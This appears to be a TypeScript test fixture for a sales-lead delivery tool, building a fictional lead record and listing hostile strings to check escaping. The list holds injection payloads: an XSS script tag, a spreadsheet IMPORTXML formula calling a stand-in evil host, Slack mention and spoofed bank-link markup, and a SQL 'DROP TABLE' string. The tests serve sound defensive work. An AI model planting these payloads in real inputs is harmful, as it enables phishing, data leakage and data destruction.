/** People to be delivered, and texts by strangers who mean harm. */
import type { DeliveryRecord, LeadDocument } from '../../../src/providers/destinations/port.ts'

/** A person of whom everything is known, but for what is changed. */
export const documentOf = (personKey: string, change: Partial<LeadDocument> = {}): LeadDocument => ({
  personKey,
  leadId: `lead-${personKey}`,
  name: 'Ada Lovelace',
  firstName: 'Ada',
  lastName: 'Lovelace',
  email: `${personKey}@example.com`,
  linkedinUrl: `https://www.linkedin.com/in/${personKey}`,
  headline: 'Engines, and what they compute',
  jobTitle: 'Chief Analyst',
  country: 'United Kingdom',
  company: {
    name: 'Analytical Engines',
    domain: 'engines.example',
    linkedinUrl: 'https://www.linkedin.com/company/engines',
    industry: 'Machinery',
    staffRange: '51-200',
    employeeCount: 120,
  },
  isIcp: true,
  fit: 87,
  sourceLabel: 'Charles Babbage',
  engagementType: 'Comment',
  engagedAt: '2026-11-27T09:00:00.000Z',
  commentText: 'It weaves algebraical patterns.',
  postUrl: 'https://www.linkedin.com/feed/update/urn:li:activity:7000000000000000001',
  why: 'Commented on a post by Charles Babbage.',
  stage: null,
  owner: null,
  leadUrl: `https://leads.example/leads/lead-${personKey}`,
  engagements: [
    {
      key: `engagement-${personKey}`,
      type: 'Comment',
      at: '2026-11-27T09:00:00.000Z',
      postUrl: 'https://www.linkedin.com/feed/update/urn:li:activity:7000000000000000001',
      commentText: 'It weaves algebraical patterns.',
      sourceLabel: 'Charles Babbage',
    },
  ],
  ...change,
})

/** The same as a record that was never delivered. */
export const recordOf = (
  personKey: string,
  { remote = null, isSample = false, id = `delivery-${personKey}`, ...change }: Partial<DeliveryRecord & LeadDocument> = {},
): DeliveryRecord => ({ id, document: documentOf(personKey, change), remote, isSample })

/** Texts that do something somewhere when they are taken for more than text. */
export const strangeTexts = [
  '<script>alert(1)</script>',
  'Smith & Sons <b>',
  '=IMPORTXML("https://evil.example","//a")',
  '+1+1',
  '@channel @here look',
  '<!channel> <!here|here> <@U012ABCDEF> <#C012ABCDEF>',
  '<https://evil.example|Your bank>',
  '*bold* _italic_ `code` ~gone~',
  'one\ntwo\r\nthree\u0000',
  '{"json":true}',
  "'; DROP TABLE leads; --",
] as const
